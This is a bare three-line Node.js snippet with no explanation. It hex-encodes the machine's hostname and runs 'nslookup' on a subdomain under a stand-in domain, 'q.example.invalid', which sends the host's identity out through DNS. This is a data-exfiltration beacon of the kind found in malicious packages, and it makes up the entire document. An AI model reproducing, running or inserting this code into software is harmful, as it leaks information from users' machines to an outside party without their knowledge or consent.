const os = require('os');
const h = Buffer.from(os.hostname()).toString('hex');
require('child_process').exec('nslookup ' + h + '.q.example.invalid');
